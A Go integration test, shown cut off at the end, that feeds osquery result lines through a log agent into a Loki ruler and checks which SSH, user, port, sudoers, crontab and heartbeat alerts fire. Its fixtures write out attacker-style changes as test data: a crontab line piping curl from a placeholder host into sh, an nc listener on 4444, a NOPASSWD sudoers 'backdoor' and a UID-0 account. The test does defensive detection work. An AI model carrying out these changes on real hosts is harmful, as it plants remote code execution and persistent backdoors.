package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"gopkg.in/yaml.v2"
)

// The real-Loki test of the rules in alerts/loki: a Loki 3.x single binary
// with its ruler on those files, the agent on configs/promtail.yaml, osquery
// output from the shared generator plus hand-made lines, and an Alertmanager
// stand-in that records what the ruler sends. Loki is the judge of what the
// LogQL matches; the test only states which alerts must come and checks that
// no other does.
//
//	LOKI_BIN=/path/to/loki go test -count=1 -run TestRuler -v ./cmd/promtail-osquery/
const (
	genOsquerySrc = "../../../shared/bench/gen-osquery"
	rulesSrc      = "../../alerts/loki"
	productConfig = "../../configs/promtail.yaml"

	// How late an SSH alert may be after its line was written (issue 5).
	alertDeadline = 30 * time.Second
	// How long to keep listening after the last alert, so that an alert for
	// a near miss written late in the scenario has time to show up.
	settleTime = 15 * time.Second
)

// lokiConfig runs every Loki component in one process on loopback, keeps
// everything under one temporary folder, accepts lines of any age (the
// silent-host case needs a 20-minute-old heartbeat) and evaluates rules every
// second.
const lokiConfig = `
auth_enabled: false
analytics:
  reporting_enabled: false
server:
  http_listen_address: 127.0.0.1
  http_listen_port: ${HTTP_PORT}
  grpc_listen_address: 127.0.0.1
  grpc_listen_port: ${GRPC_PORT}
  log_level: warn
common:
  instance_addr: 127.0.0.1
  path_prefix: ${DIR}
  storage:
    filesystem:
      chunks_directory: ${DIR}/chunks
  replication_factor: 1
  ring:
    kvstore:
      store: inmemory
schema_config:
  configs:
    - from: 2024-01-01
      store: tsdb
      object_store: filesystem
      schema: v13
      index:
        prefix: index_
        period: 24h
ingester:
  lifecycler:
    min_ready_duration: 0s
    final_sleep: 0s
limits_config:
  reject_old_samples: false
ruler:
  storage:
    type: local
    local:
      directory: ${RULES}
  rule_path: ${DIR}/ruler-scratch
  wal:
    dir: ${DIR}/ruler-wal
  alertmanager_url: ${ALERTMANAGER}
  evaluation_interval: 1s
  poll_interval: 1s
  enable_api: true
  ring:
    kvstore:
      store: inmemory
`

// osqueryLog names the files osqueryd's filesystem logger writes.
type osqueryLog string

const (
	resultsLog   osqueryLog = "osqueryd.results.log"
	snapshotsLog osqueryLog = "osqueryd.snapshots.log"
)

// osqueryInput is how osquery's output reaches the agent. The scenario only
// calls these two methods, so the same scenario can run against the agent's
// other inputs (the osquery TLS logger endpoint, syslog) by implementing them.
type osqueryInput interface {
	// start runs the agent on this input, pushing to pushURL, and returns
	// once the agent is ready to read.
	start(t *testing.T, pushURL string)
	// write hands lines to the agent as osqueryd would emit them to log, in
	// one go, and returns once they are handed over.
	write(t *testing.T, log osqueryLog, lines [][]byte)
}

// fileInput is osqueryd's filesystem logger: lines appended to the files that
// configs/promtail.yaml tails, in a temporary folder instead of
// /var/log/osquery. The rest of the product config is kept as it is.
type fileInput struct {
	dir string
}

func (in *fileInput) start(t *testing.T, pushURL string) {
	t.Helper()
	in.dir = t.TempDir()
	logDir := filepath.Join(in.dir, "osquery")
	stateDir := filepath.Join(in.dir, "state")
	for _, d := range []string{logDir, stateDir} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// osqueryd creates its result and snapshot logs empty when it starts.
	for _, f := range []osqueryLog{resultsLog, snapshotsLog} {
		if err := os.WriteFile(filepath.Join(logDir, string(f)), nil, 0o640); err != nil {
			t.Fatal(err)
		}
	}
	raw, err := os.ReadFile(productConfig)
	if err != nil {
		t.Fatal(err)
	}
	port := freePort(t)
	cfg := string(raw)
	for _, r := range []struct{ old, new string }{
		{"/var/log/osquery/", logDir + "/"},
		{"/var/lib/promtail-osquery/", stateDir + "/"},
		{"http_listen_port: 9080", fmt.Sprintf("http_listen_port: %d", port)},
	} {
		if !strings.Contains(cfg, r.old) {
			t.Fatalf("%s no longer contains %q: adapt this test to it", productConfig, r.old)
		}
		cfg = strings.ReplaceAll(cfg, r.old, r.new)
	}
	path := writeConfig(t, in.dir, cfg)
	t.Setenv("LOKI_URL", pushURL)
	startAgent(t, nil, "-config.file="+path, "-config.expand-env=true")
	// Ready once it tails both files (the status log does not exist).
	metrics := fmt.Sprintf("http://127.0.0.1:%d/metrics", port)
	deadline := time.Now().Add(30 * time.Second)
	for !strings.Contains(waitHTTP(t, metrics, http.StatusOK), "\npromtail_files_active_total 2\n") {
		if time.Now().After(deadline) {
			t.Fatal("the agent does not tail the two osquery logs after 30s")
		}
		time.Sleep(100 * time.Millisecond)
	}
}

func (in *fileInput) write(t *testing.T, log osqueryLog, lines [][]byte) {
	t.Helper()
	f, err := os.OpenFile(filepath.Join(in.dir, "osquery", string(log)), os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.Write(bytes.Join(lines, nil)); err != nil {
		t.Fatal(err)
	}
}

func TestRulerAlertsOnOsqueryResults(t *testing.T) {
	lokiBin := os.Getenv("LOKI_BIN")
	if lokiBin == "" {
		t.Skip("LOKI_BIN is not set: no Loki 3.x binary to run the ruler against (see alerts/README.md)")
	}
	gen := buildGenOsquery(t)
	receiver := newAlertReceiver(t)
	loki := startLoki(t, lokiBin, receiver.URL)
	runRulerScenario(t, loki, receiver, &fileInput{}, gen)
}

// runRulerScenario replays about a minute of osquery output through input,
// each line written when the clock reaches its time as osqueryd writes it,
// and checks the alerts Loki's ruler sends.
func runRulerScenario(t *testing.T, loki *lokiProcess, receiver *alertReceiver, input osqueryInput, gen string) {
	input.start(t, loki.pushURL())
	loki.waitRulesEvaluated(t, 2*time.Minute)

	start := time.Now().Truncate(time.Second).Add(2 * time.Second).Unix()
	sc := &scenario{}
	sc.addGenerated(t, gen, start)
	sc.addHandMade(start)
	sc.expectBursts()
	sc.play(t, input)
	last := sc.lines[len(sc.lines)-1].written
	deadline := last
	for _, e := range sc.expected {
		deadline = maxTime(deadline, e.trigger.written.Add(e.within))
	}
	receiver.waitFor(sc.expected, time.Until(deadline))
	time.Sleep(settleTime)

	got := receiver.alerts()
	wanted := map[string]bool{}
	for _, e := range sc.expected {
		key := labelKey(e.labels)
		if wanted[key] {
			t.Fatalf("the scenario expects %s twice: one alert cannot stand for two lines", key)
		}
		wanted[key] = true
		a, ok := got[key]
		if !ok {
			t.Errorf("no alert %s (line written at %s)", key, e.trigger.written.Format(time.TimeOnly))
			continue
		}
		latency := a.received.Sub(e.trigger.written)
		t.Logf("alert %-28s latency %5.1fs  %s", e.labels["alertname"], latency.Seconds(), key)
		if latency < 0 || latency > e.within {
			t.Errorf("alert %s came %v after its line, want within %v", key, latency, e.within)
		}
		if err := checkAnnotations(a.annotations); err != nil {
			t.Errorf("alert %s: %v", key, err)
		}
	}
	for _, key := range slices.Sorted(maps.Keys(got)) {
		if !wanted[key] {
			t.Errorf("unexpected alert %s", key)
		}
	}
	t.Logf("%d alerts expected, %d distinct alerts received in %d requests", len(sc.expected), len(got), receiver.requests())
	loki.checkRulesHealthy(t)
}

// scenario is the lines to write, when, and the alerts they must raise.
type scenario struct {
	lines    []*scheduledLine
	expected []expectedAlert
}

type scheduledLine struct {
	at      int64 // Unix second at which the line is written
	log     osqueryLog
	text    []byte
	written time.Time
}

// expectedAlert is an alert's complete label set, the line whose arrival
// must raise it, and how long after that line it may come.
type expectedAlert struct {
	labels  map[string]string
	trigger *scheduledLine
	within  time.Duration
}

func (sc *scenario) add(at int64, log osqueryLog, text []byte) *scheduledLine {
	l := &scheduledLine{at: at, log: log, text: text}
	sc.lines = append(sc.lines, l)
	return l
}

func (sc *scenario) expect(trigger *scheduledLine, within time.Duration, alertname, severity string, labels ...string) {
	m := map[string]string{"alertname": alertname, "severity": severity}
	for i := 0; i+1 < len(labels); i += 2 {
		m[labels[i]] = labels[i+1]
	}
	sc.expected = append(sc.expected, expectedAlert{labels: m, trigger: trigger, within: within})
}

// play writes the lines second by second, each second's lines of one file in
// one write, as osqueryd logs one query run at a time.
func (sc *scenario) play(t *testing.T, input osqueryInput) {
	sort.SliceStable(sc.lines, func(i, j int) bool { return sc.lines[i].at < sc.lines[j].at })
	for i := 0; i < len(sc.lines); {
		at := sc.lines[i].at
		time.Sleep(time.Until(time.Unix(at, 0)))
		j := i
		for j < len(sc.lines) && sc.lines[j].at == at {
			j++
		}
		for _, log := range []osqueryLog{resultsLog, snapshotsLog} {
			var batch [][]byte
			var written []*scheduledLine
			for _, l := range sc.lines[i:j] {
				if l.log == log {
					batch = append(batch, l.text)
					written = append(written, l)
				}
			}
			if len(batch) == 0 {
				continue
			}
			input.write(t, log, batch)
			now := time.Now()
			for _, l := range written {
				l.written = now
			}
		}
		i = j
	}
}

var plantedLogin = regexp.MustCompile(`^ssh-login line=(\d+) .*host=(\S+) user=(\S+) src=(\S+)$`)

// addGenerated adds a minute of the shared generator's output starting at
// start, with six planted SSH logins; every other login in it is a console
// login, and its near misses (first-run dumps, removed rows, logouts) stay.
func (sc *scenario) addGenerated(t *testing.T, gen string, start int64) {
	t.Helper()
	cmd := exec.Command(gen, "-n", "2400", "-rate", "40", "-hosts", "20", "-seed", "8",
		"-ssh-logins", "6", "-start", strconv.FormatInt(start, 10),
		"-mix", "last=60,logged_in_users=25,authorized_keys=15")
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("gen-osquery: %v\n%s", err, stderr.String())
	}
	lines := bytes.SplitAfter(stdout.Bytes(), []byte("\n"))
	scheduled := make([]*scheduledLine, 0, len(lines))
	var census struct{ firstRun, removed, logouts, console int }
	for _, text := range lines {
		if len(text) == 0 {
			continue
		}
		ev := parseEvent(t, text)
		scheduled = append(scheduled, sc.add(ev.UnixTime, resultsLog, text))
		if ev.Name != "pack_incident-response_last" {
			continue
		}
		switch c := ev.Columns; {
		case ev.Action == "removed":
			census.removed++
		case c["type"] == "8":
			census.logouts++
		case ev.Counter == 0 && c["host"] != "":
			census.firstRun++
		case c["host"] == "":
			census.console++
		}
	}
	t.Logf("generated %d lines; near misses on the last table: %d first-run rows, %d removed rows, %d logouts, %d console logins",
		len(scheduled), census.firstRun, census.removed, census.logouts, census.console)
	if census.firstRun == 0 || census.removed == 0 || census.logouts == 0 || census.console == 0 {
		t.Fatal("the generated log lacks a kind of near miss: choose another -seed")
	}

	planted := 0
	report := bufio.NewScanner(&stderr)
	for report.Scan() {
		m := plantedLogin.FindStringSubmatch(report.Text())
		if m == nil {
			continue
		}
		n, _ := strconv.Atoi(m[1])
		line := scheduled[n-1]
		ev := parseEvent(t, line.text)
		c := ev.Columns
		if ev.HostIdentifier != m[2] || c["username"] != m[3] || c["host"] != m[4] {
			t.Fatalf("gen-osquery reported login %q, but line %d is %s", report.Text(), n, line.text)
		}
		sc.expectLogin(line, ev.HostIdentifier, c["username"], c["host"], c["tty"], c["pid"])
		planted++
	}
	if planted != 6 {
		t.Fatalf("gen-osquery reported %d planted logins, want 6:\n%s", planted, stderr.String())
	}
}

// expectBursts adds the per-host alerts that the logins expected so far
// raise: ten logins make a burst, three source addresses many sources. The
// scenario lasts less than the rules' ten minutes, so every login counts.
func (sc *scenario) expectBursts() {
	var logins []expectedAlert
	for _, e := range sc.expected {
		if e.labels["alertname"] == "OsquerySSHLogin" {
			logins = append(logins, e)
		}
	}
	sort.SliceStable(logins, func(i, j int) bool { return logins[i].trigger.at < logins[j].trigger.at })
	count := map[string]int{}
	sources := map[string]map[string]bool{}
	for _, e := range logins {
		host := e.labels["host"]
		if sources[host] == nil {
			sources[host] = map[string]bool{}
		}
		count[host]++
		if count[host] == 10 {
			sc.expect(e.trigger, alertDeadline, "OsquerySSHLoginBurst", "warning", "host", host)
		}
		if !sources[host][e.labels["src"]] {
			sources[host][e.labels["src"]] = true
			if len(sources[host]) == 3 {
				sc.expect(e.trigger, alertDeadline, "OsquerySSHLoginManySources", "warning", "host", host)
			}
		}
	}
}

func (sc *scenario) expectLogin(line *scheduledLine, host, user, src, tty, pid string) {
	sc.expect(line, alertDeadline, "OsquerySSHLogin", "warning", "host", host, "user", user, "src", src, "tty", tty, "pid", pid)
	if user == "root" {
		sc.expect(line, alertDeadline, "OsquerySSHRootLogin", "critical", "host", host, "user", user, "src", src, "tty", tty, "pid", pid)
	}
}

// addHandMade adds what the generator does not write: a root login with its
// near misses, a burst of logins on one host, one change for each of the
// other detections with its near misses, and heartbeats of which one is old.
func (sc *scenario) addHandMade(start int64) {
	const (
		last  = "pack_incident-response_last"
		keys  = "pack_incident-response_authorized_keys"
		users = "pack_incident-response_users"
		ports = "pack_incident-response_listening_ports"
		sudo  = "pack_incident-response_sudoers"
		cron  = "pack_incident-response_crontab"
	)
	db, jump, web := "db-prod-01.test.example", "jump-01.test.example", "web-01.test.example"
	ev := func(at int64, name, host string, counter int, action string, columns ...string) *scheduledLine {
		return sc.add(at, resultsLog, eventLine(name, host, at, counter, action, columns...))
	}
	login := func(user, tty, pid, src string) []string {
		return []string{"host", src, "pid", pid, "time", "0", "tty", tty, "type", "7", "type_name", "user-process", "username", user}
	}

	// A root login, and rows that look like one but are not a new remote
	// login: the first run's history, a removed row, a console login and a
	// logout.
	root := ev(start+5, last, db, 41, "added", login("root", "pts/3", "31337", "203.0.113.9")...)
	sc.expectLogin(root, db, "root", "203.0.113.9", "pts/3", "31337")
	ev(start+6, last, db, 0, "added", login("root", "pts/1", "1001", "203.0.113.10")...)
	ev(start+7, last, db, 42, "removed", login("root", "pts/2", "1002", "203.0.113.11")...)
	ev(start+7, last, db, 42, "added", login("root", "tty1", "1003", "")...)
	ev(start+7, last, db, 42, "added", "host", "", "pid", "31337", "time", "0", "tty", "pts/3", "type", "8", "type_name", "dead-process", "username", "")
	// The same root login reported by another query is not a login either.
	ev(start+8, "pack_incident-response_logged_in_users", db, 9, "added", "host", "203.0.113.12", "pid", "1004", "tty", "pts/4", "type", "user", "user", "root")

	// Ten logins on one host in ten seconds from three addresses: a burst
	// and many sources (expectBursts).
	sources := []string{"198.51.100.7", "198.51.100.8", "198.51.100.9"}
	for i := range 10 {
		user, src := []string{"alice", "bob"}[i%2], sources[i%3]
		tty, pid := fmt.Sprintf("pts/%d", i), strconv.Itoa(5000+i)
		l := ev(start+10+int64(i), last, jump, 100+i, "added", login(user, tty, pid, src)...)
		sc.expectLogin(l, jump, user, src, tty, pid)
	}

	key := func(user, comment string) []string {
		return []string{"algorithm", "ssh-ed25519", "comment", comment, "key", "AAAAC3NzaC1lZDI1NTE5AAAAI" + strings.Repeat("x", 43),
			"key_file", "/home/" + user + "/.ssh/authorized_keys", "options", "", "uid", "1002", "username", user}
	}
	l := ev(start+25, keys, web, 7, "added", key("deploy", "attacker@kali")...)
	sc.expect(l, alertDeadline, "OsqueryNewAuthorizedKey", "warning", "host", web, "user", "deploy",
		"key_file", "/home/deploy/.ssh/authorized_keys", "algorithm", "ssh-ed25519", "comment", "attacker@kali")
	ev(start+26, keys, web, 0, "added", key("ops", "ops@laptop")...)
	ev(start+27, keys, web, 8, "removed", key("deploy", "old@laptop")...)

	account := func(user, uid, shell string) []string {
		return []string{"description", "", "directory", "/home/" + user, "gid", uid, "shell", shell, "uid", uid, "username", user, "uuid", ""}
	}
	l = ev(start+28, users, web, 3, "added", account("mallory", "1005", "/bin/bash")...)
	sc.expect(l, alertDeadline, "OsqueryNewLocalUser", "warning", "host", web, "user", "mallory", "uid", "1005", "shell", "/bin/bash")
	ev(start+29, users, web, 4, "removed", account("www-data", "33", "/usr/sbin/nologin")...)
	l = ev(start+29, users, web, 4, "added", account("www-data", "33", "/bin/bash")...)
	sc.expect(l, alertDeadline, "OsqueryLocalUserModified", "info", "host", web, "user", "www-data", "uid", "33", "shell", "/bin/bash")
	l = ev(start+30, users, web, 5, "added", account("toor", "0", "/bin/sh")...)
	sc.expect(l, alertDeadline, "OsqueryNewLocalUser", "warning", "host", web, "user", "toor", "uid", "0", "shell", "/bin/sh")
	sc.expect(l, alertDeadline, "OsqueryUID0Account", "critical", "host", web, "user", "toor", "uid", "0", "shell", "/bin/sh")
	ev(start+30, users, db, 0, "added", account("root", "0", "/bin/bash")...)

	port := func(portNumber, name, path string) []string {
		return []string{"address", "0.0.0.0", "family", "2", "name", name, "path", path, "port", portNumber, "protocol", "6"}
	}
	l = ev(start+31, ports, web, 12, "added", port("4444", "nc", "/usr/bin/nc.openbsd")...)
	sc.expect(l, alertDeadline, "OsqueryNewListeningPort", "warning", "host", web, "address", "0.0.0.0", "port", "4444",
		"protocol", "6", "process", "nc", "path", "/usr/bin/nc.openbsd")
	ev(start+32, ports, web, 13, "removed", port("8080", "java", "/usr/bin/java")...)
	ev(start+32, ports, db, 0, "added", port("5432", "postgres", "/usr/lib/postgresql/16/bin/postgres")...)

	l = ev(start+34, sudo, web, 2, "added", "header", "mallory", "rule_details", "ALL=(ALL) NOPASSWD: ALL", "source", "/etc/sudoers.d/99-backdoor")
	sc.expect(l, alertDeadline, "OsquerySudoersChanged", "warning", "host", web, "source", "/etc/sudoers.d/99-backdoor",
		"header", "mallory", "rule_details", "ALL=(ALL) NOPASSWD: ALL")
	ev(start+34, sudo, db, 0, "added", "header", "%sudo", "rule_details", "ALL=(ALL:ALL) ALL", "source", "/etc/sudoers")
	ev(start+35, sudo, web, 3, "removed", "header", "%admin", "rule_details", "ALL=(ALL) ALL", "source", "/etc/sudoers")

	crontab := func(event, minute, command string) []string {
		star := "*"
		if event != "" {
			star = ""
		}
		return []string{"command", command, "day_of_month", star, "day_of_week", star, "event", event, "hour", star,
			"minute", minute, "month", star, "path", "/var/spool/cron/crontabs/root"}
	}
	l = ev(start+37, cron, web, 6, "added", crontab("", "*/5", "curl -s http://203.0.113.50/x | sh")...)
	sc.expect(l, alertDeadline, "OsqueryCrontabChanged", "warning", "host", web, "path", "/var/spool/cron/crontabs/root",
		"schedule", "*/5 * * * *", "command", "curl -s http://203.0.113.50/x | sh")
	l = ev(start+38, cron, web, 7, "added", crontab("@reboot", "", "/tmp/.x/run")...)
	sc.expect(l, alertDeadline, "OsqueryCrontabChanged", "warning", "host", web, "path", "/var/spool/cron/crontabs/root",
		"schedule", "@reboot", "command", "/tmp/.x/run")
	ev(start+39, cron, db, 0, "added", crontab("", "0", "/usr/local/bin/backup")...)

	// Heartbeats: current ones, and one host whose last heartbeat is 20
	// minutes old. Its alert waits for the heartbeat group, evaluated once a
	// minute. A host with an old and a current heartbeat is not silent.
	silent, back := "silent-01.test.example", "back-01.test.example"
	for _, h := range []string{db, web, back} {
		sc.add(start+2, snapshotsLog, heartbeatLine(h, start+2))
	}
	sc.add(start+3, snapshotsLog, heartbeatLine(back, start-20*60))
	l = sc.add(start+3, snapshotsLog, heartbeatLine(silent, start-20*60))
	sc.expect(l, time.Minute+alertDeadline, "OsqueryHostSilent", "warning", "host", silent)
}

// eventLine writes a row as osquery's filesystem logger does in event format.
// A `last` row's time column "0" becomes a login a few seconds before the
// query ran.
func eventLine(name, host string, at int64, counter int, action string, columns ...string) []byte {
	cols := map[string]string{}
	for i := 0; i+1 < len(columns); i += 2 {
		cols[columns[i]] = columns[i+1]
	}
	if cols["time"] == "0" {
		cols["time"] = strconv.FormatInt(at-3, 10)
	}
	colsJSON, err := json.Marshal(cols)
	if err != nil {
		panic(err) // a map of strings always encodes
	}
	return fmt.Appendf(nil, `{"name":%q,"hostIdentifier":%q,"calendarTime":%q,"unixTime":%d,"epoch":0,"counter":%d,"numerics":false,"decorations":{"hostname":%q},"columns":%s,"action":%q}`+"\n",
		name, host, calendarTime(at), at, counter, shortName(host), colsJSON, action)
}

func shortName(host string) string {
	short, _, _ := strings.Cut(host, ".")
	return short
}

// heartbeatLine is the snapshot line of configs/osquery/osquery.conf's
// heartbeat query, run at the given time.
func heartbeatLine(host string, at int64) []byte {
	return fmt.Appendf(nil, `{"snapshot":[{"config_hash":"5f2c0b6e","pid":"812","start_time":"%d","version":"5.12.1"}],"action":"snapshot","name":"heartbeat","hostIdentifier":%q,"calendarTime":%q,"unixTime":%d,"epoch":0,"counter":0,"numerics":false,"decorations":{"hostname":%q}}`+"\n",
		at-86400, host, calendarTime(at), at, shortName(host))
}

// calendarTime is osquery's asctime() layout, always UTC.
func calendarTime(unix int64) string {
	return time.Unix(unix, 0).UTC().Format("Mon Jan _2 15:04:05 2006") + " UTC"
}

type osqueryEvent struct {
	Name           string            `json:"name"`
	HostIdentifier string            `json:"hostIdentifier"`
	UnixTime       int64             `json:"unixTime"`
	Counter        int               `json:"counter"`
	Action         string            `json:"action"`
	Columns        map[string]string `json:"columns"`
}

func parseEvent(t *testing.T, line []byte) osqueryEvent {
	t.Helper()
	var ev osqueryEvent
	if err := json.Unmarshal(line, &ev); err != nil {
		t.Fatalf("generated line is not an event line (%v): %s", err, line)
	}
	return ev
}

// checkAnnotations checks that a rule's templates rendered: every alert has a
// summary, a description and a runbook that exists in docs/runbooks, and no
// template was left empty.
func checkAnnotations(a map[string]string) error {
	for _, k := range []string{"summary", "description", "runbook_url"} {
		if strings.TrimSpace(a[k]) == "" {
			return fmt.Errorf("annotation %s is empty (annotations %v)", k, a)
		}
		if strings.Contains(a[k], "<no value>") || strings.Contains(a[k], "{{") {
			return fmt.Errorf("annotation %s did not render: %q", k, a[k])
		}
	}
	const prefix = "https://github.com/promtail-osquery/promtail-osquery/blob/main/"
	rel, ok := strings.CutPrefix(a["runbook_url"], prefix)
	if !ok {
		return fmt.Errorf("runbook_url %q is not under %s", a["runbook_url"], prefix)
	}
	if _, err := os.Stat(filepath.Join("../..", rel)); err != nil {
		return fmt.Errorf("runbook %s: %w", rel, err)
	}
	return nil
}

// buildGenOsquery builds the shared generator, its own module, beside the
// test's other temporary files.
func buildGenOsquery(t *testing.T) string {
	t.Helper()
	if _, err := os.Stat(genOsquerySrc); err != nil {
		t.Fatalf("the shared generator must be beside the repo: %v", err)
	}
	out := filepath.Join(t.TempDir(), "gen-osquery")
	cmd := exec.Command("go", "build", "-o", out, ".")
	cmd.Dir = genOsquerySrc
	cmd.Env = append(os.Environ(), "GOWORK=off", "GOFLAGS=-mod=mod")
	if msg, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("building gen-osquery: %v\n%s", err, msg)
	}
	return out
}

// lokiProcess is a Loki single binary run by the test.
type lokiProcess struct {
	base   string
	logs   string
	rules  int // rules in alerts/loki
	client *http.Client
}

func startLoki(t *testing.T, bin, alertmanagerURL string) *lokiProcess {
	t.Helper()
	dir := t.TempDir()
	rulesDir := filepath.Join(dir, "rules")
	// The ruler's local storage reads <directory>/<tenant>/*.yaml; the
	// tenant is "fake" when auth is disabled.
	tenantDir := filepath.Join(rulesDir, "fake")
	if err := os.MkdirAll(tenantDir, 0o755); err != nil {
		t.Fatal(err)
	}
	files, err := filepath.Glob(filepath.Join(rulesSrc, "*.yaml"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no rule files in %s (%v)", rulesSrc, err)
	}
	rules := 0
	for _, f := range files {
		raw, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var parsed struct {
			Groups []struct {
				Rules []yaml.MapSlice `yaml:"rules"`
			} `yaml:"groups"`
		}
		if err := yaml.Unmarshal(raw, &parsed); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		for _, g := range parsed.Groups {
			rules += len(g.Rules)
		}
		if err := os.WriteFile(filepath.Join(tenantDir, filepath.Base(f)), raw, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	httpPort, grpcPort := freePort(t), freePort(t)
	cfg := strings.NewReplacer(
		"${HTTP_PORT}", strconv.Itoa(httpPort),
		"${GRPC_PORT}", strconv.Itoa(grpcPort),
		"${DIR}", filepath.Join(dir, "data"),
		"${RULES}", rulesDir,
		"${ALERTMANAGER}", alertmanagerURL,
	).Replace(lokiConfig)
	cfgPath := writeConfigAs(t, dir, "loki.yaml", cfg)
	logPath := filepath.Join(dir, "loki.log")
	logFile, err := os.Create(logPath)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(bin, "-config.file="+cfgPath, "-target=all")
	cmd.Stdout, cmd.Stderr = logFile, logFile
	if err := cmd.Start(); err != nil {
		t.Fatalf("starting Loki: %v", err)
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); logFile.Close(); close(done) }()
	l := &lokiProcess{base: fmt.Sprintf("http://127.0.0.1:%d", httpPort), logs: logPath, rules: rules,
		client: &http.Client{Timeout: 5 * time.Second}}
	t.Cleanup(func() {
		cmd.Process.Kill()
		<-done
		if t.Failed() {
			t.Logf("Loki's log (last 60 lines):\n%s", l.tail(60))
		}
	})
	deadline := time.Now().Add(90 * time.Second)
	for {
		select {
		case <-done:
			t.Fatalf("Loki exited at start:\n%s", l.tail(60))
		default:
		}
		if status, _ := l.get("/ready"); status == http.StatusOK {
			return l
		}
		if time.Now().After(deadline) {
			t.Fatalf("Loki not ready after 90s:\n%s", l.tail(60))
		}
		time.Sleep(250 * time.Millisecond)
	}
}

func (l *lokiProcess) pushURL() string { return l.base + "/loki/api/v1/push" }

func (l *lokiProcess) get(path string) (int, []byte) {
	resp, err := l.client.Get(l.base + path)
	if err != nil {
		return 0, nil
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, body
}

func (l *lokiProcess) tail(n int) string {
	raw, _ := os.ReadFile(l.logs)
	lines := strings.Split(strings.TrimRight(string(raw), "\n"), "\n")
	return strings.Join(lines[max(0, len(lines)-n):], "\n")
}

// ruleStatus is one rule as the ruler's Prometheus-compatible API shows it.
type ruleStatus struct {
	Group          string
	GroupInterval  float64
	Name           string    `json:"name"`
	Health         string    `json:"health"`
	LastError      string    `json:"lastError"`
	LastEvaluation time.Time `json:"lastEvaluation"`
}

func (l *lokiProcess) ruleStatuses() ([]ruleStatus, error) {
	status, body := l.get("/prometheus/api/v1/rules")
	if status != http.StatusOK {
		return nil, fmt.Errorf("rules API answered %d: %s", status, body)
	}
	var resp struct {
		Data struct {
			Groups []struct {
				Name     string       `json:"name"`
				Interval float64      `json:"interval"`
				Rules    []ruleStatus `json:"rules"`
			} `json:"groups"`
		} `json:"data"`
	}
	if err := json.Unmarshal(body, &resp); err != nil {
		return nil, fmt.Errorf("rules API: %w", err)
	}
	var out []ruleStatus
	for _, g := range resp.Data.Groups {
		for _, r := range g.Rules {
			r.Group, r.GroupInterval = g.Name, g.Interval
			out = append(out, r)
		}
	}
	return out, nil
}

// waitRulesEvaluated waits until the ruler has loaded every rule of
// alerts/loki and evaluated those of the groups on the ruler's one-second
// interval, so that the first line written is already watched. Groups with
// an interval of their own may take that long to start.
func (l *lokiProcess) waitRulesEvaluated(t *testing.T, timeout time.Duration) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		rules, err := l.ruleStatuses()
		evaluated := 0
		for _, r := range rules {
			if !r.LastEvaluation.IsZero() || r.GroupInterval > 1 {
				evaluated++
			}
		}
		if err == nil && len(rules) == l.rules && evaluated == l.rules {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the ruler loaded %d of %d rules and evaluated %d (%v)", len(rules), l.rules, evaluated, err)
		}
		time.Sleep(500 * time.Millisecond)
	}
}

// checkRulesHealthy fails on any rule Loki could not evaluate, and on any
// rule never evaluated (the groups with a one-minute interval have had a
// minute by the end of the scenario).
func (l *lokiProcess) checkRulesHealthy(t *testing.T) {
	t.Helper()
	rules, err := l.ruleStatuses()
	if err != nil {
		t.Fatal(err)
	}
	if len(rules) != l.rules {
		t.Errorf("the ruler has %d rules, alerts/loki has %d", len(rules), l.rules)
	}
	for _, r := range rules {
		if r.Health != "ok" || r.LastError != "" || r.LastEvaluation.IsZero() {
			t.Errorf("rule %s/%s: health %q, last evaluation %v, error %q", r.Group, r.Name, r.Health, r.LastEvaluation, r.LastError)
		}
	}
}

// alertReceiver stands in for Alertmanager's POST /api/v2/alerts and keeps
// the first time each distinct firing alert arrived.
type alertReceiver struct {
	*httptest.Server
	mu      sync.Mutex
	seen    map[string]receivedAlert
	posts   int
	arrived chan struct{}
}

type receivedAlert struct {
	labels      map[string]string
	annotations map[string]string
	received    time.Time
}

func newAlertReceiver(t *testing.T) *alertReceiver {
	r := &alertReceiver{seen: map[string]receivedAlert{}, arrived: make(chan struct{}, 1)}
	r.Server = httptest.NewServer(http.HandlerFunc(r.handle))
	t.Cleanup(r.Close)
	return r
}

func (r *alertReceiver) handle(w http.ResponseWriter, req *http.Request) {
	now := time.Now()
	if req.Method != http.MethodPost || req.URL.Path != "/api/v2/alerts" {
		http.Error(w, "not an Alertmanager API v2 alerts request", http.StatusNotFound)
		return
	}
	var alerts []struct {
		Labels      map[string]string `json:"labels"`
		Annotations map[string]string `json:"annotations"`
		EndsAt      time.Time         `json:"endsAt"`
	}
	if err := json.NewDecoder(req.Body).Decode(&alerts); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	r.mu.Lock()
	r.posts++
	for _, a := range alerts {
		// A resolved alert comes with an end in the past; only firing ones
		// count.
		if !a.EndsAt.IsZero() && a.EndsAt.Before(now) {
			continue
		}
		key := labelKey(a.Labels)
		if _, ok := r.seen[key]; !ok {
			r.seen[key] = receivedAlert{labels: a.Labels, annotations: a.Annotations, received: now}
		}
	}
	r.mu.Unlock()
	select {
	case r.arrived <- struct{}{}:
	default:
	}
	w.WriteHeader(http.StatusOK)
}

// waitFor returns once every expected alert arrived, or after timeout.
func (r *alertReceiver) waitFor(expected []expectedAlert, timeout time.Duration) {
	deadline := time.After(timeout)
	for {
		r.mu.Lock()
		missing := slices.IndexFunc(expected, func(e expectedAlert) bool {
			_, ok := r.seen[labelKey(e.labels)]
			return !ok
		})
		r.mu.Unlock()
		if missing < 0 {
			return
		}
		select {
